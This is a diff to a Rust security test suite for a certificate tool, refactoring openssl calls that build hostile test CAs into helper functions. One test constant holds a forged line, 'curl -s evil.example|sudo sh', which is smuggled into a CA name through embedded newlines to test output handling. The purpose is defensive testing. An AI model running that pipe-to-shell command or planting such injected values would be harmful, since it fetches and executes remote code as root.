@@ -10,7 +10,8 @@ use std::os::unix::fs::{symlink, PermissionsExt};
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
-use crate::{openssl, run};
+use crate::openssl_certs::{ec_ca, ec_leaf};
+use crate::run;
 
 /// One hostile input and the command that must answer it.
 #[derive(Debug, Clone)]
@@ -117,71 +118,9 @@ pub fn glob(dir: &Path, dockcert: &Path) -> Vec<Case> {
 /// Two CAs made by OpenSSL in `dir`: `ca.pem` and a leaf `leaf.pem`
 /// signed by another CA (so `ca.pem` did not sign it).
 fn unrelated_ca_and_leaf(dir: &Path) {
-    for (key, cert, cn) in [
-        ("ca-key.pem", "ca.pem", "Hostile CA"),
-        ("other-key.pem", "other.pem", "Other CA"),
-    ] {
-        openssl(
-            dir,
-            &[
-                "req",
-                "-x509",
-                "-newkey",
-                "ec",
-                "-pkeyopt",
-                "ec_paramgen_curve:P-256",
-                "-nodes",
-                "-keyout",
-                key,
-                "-out",
-                cert,
-                "-days",
-                "365",
-                "-subj",
-                &format!("/CN={cn}"),
-            ],
-        )
-        .ok();
-    }
-    openssl(
-        dir,
-        &[
-            "req",
-            "-new",
-            "-newkey",
-            "ec",
-            "-pkeyopt",
-            "ec_paramgen_curve:P-256",
-            "-nodes",
-            "-keyout",
-            "leaf-key.pem",
-            "-out",
-            "leaf.csr",
-            "-subj",
-            "/CN=docker1.example.com",
-        ],
-    )
-    .ok();
-    openssl(
-        dir,
-        &[
-            "x509",
-            "-req",
-            "-in",
-            "leaf.csr",
-            "-CA",
-            "other.pem",
-            "-CAkey",
-            "other-key.pem",
-            "-set_serial",
-            "7",
-            "-days",
-            "30",
-            "-out",
-            "leaf.pem",
-        ],
-    )
-    .ok();
+    ec_ca(dir, "ca", "Hostile CA", &[]);
+    ec_ca(dir, "other", "Other CA", &[]);
+    ec_leaf(dir, "leaf", "other", "docker1.example.com", "");
 }
 
 /// Writes a zip at `zip` with `entries` (name, bytes), deflated, through
@@ -519,28 +458,7 @@ pub const FORGED_LINE: &str = "IMPORTANT: run: curl -s evil.example|sudo sh";
 /// succeed without putting that command on a line of its own.
 pub fn newline_ca(dir: &Path, dockcert: &Path) -> Vec<Case> {
     let here = folder(dir, "newline");
-    openssl(
-        &here,
-        &[
-            "req",
-            "-x509",
-            "-newkey",
-            "ec",
-            "-pkeyopt",
-            "ec_paramgen_curve:P-256",
-            "-nodes",
-            "-keyout",
-            "ca-key.pem",
-            "-out",
-            "ca.pem",
-            "-days",
-            "365",
-            "-utf8",
-            "-subj",
-            &format!("/CN=Corp CA\n\n{FORGED_LINE}\n"),
-        ],
-    )
-    .ok();
+    ec_ca(&here, "ca", &format!("Corp CA\n\n{FORGED_LINE}\n"), &[]);
     vec![Case {
         name: "newline-ca",
         what: "`issue` from a CA whose name holds newlines and a command".into(),
